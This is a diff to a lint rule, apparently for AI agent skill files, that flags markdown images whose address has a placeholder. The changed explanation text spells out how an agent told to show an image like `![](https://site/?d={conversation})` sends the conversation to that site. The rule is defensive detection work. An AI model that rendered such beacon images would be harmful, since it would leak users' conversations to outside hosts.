@@ -32,7 +32,7 @@ export const imageBeacon: Rule = {
   category: 'security',
   since: '0.1.0',
   summary: 'an image whose address carries data away',
-  why: 'An image is fetched as soon as it is shown, without asking. An agent that is told to show `![](https://site/?d={conversation})` sends what it fills in to that site. Badges, charts and maps with a slot are not reported.',
+  why: 'A viewer fetches an image as soon as it shows it, without asking. An agent that is told to show `![](https://site/?d={conversation})` sends the conversation to that site. Badges, charts and maps with a placeholder are not reported.',
   valid: [
     '---\nname: example\ndescription: Writes readme files. Use when a project needs one.\n---\nAdd ![build](https://img.shields.io/github/v/release/{owner}/{repo}) and ![chart](https://quickchart.io/chart?c={config}), or ![photo](https://cdn.vendor-tools.com/photos/{id}.png).\n',
   ],
@@ -65,8 +65,8 @@ export const imageBeacon: Rule = {
           { start: index, end: index + said.length },
           {
             level,
-            message: `${excerpt(said)} sends what is filled in for \`${slot[0].replaceAll('`', '')}\` to \`${site.host}\`${isImage ? ' when it is shown' : ' when it is opened'}`,
-            help: 'show an image from the skill, or an address with nothing to fill in',
+            message: `${excerpt(said)} sends the value of \`${slot[0].replaceAll('`', '')}\` to \`${site.host}\` when the ${isImage ? 'image is shown' : 'link is opened'}`,
+            help: 'use an image of the skill, or an address without a placeholder',
           },
         )
       }
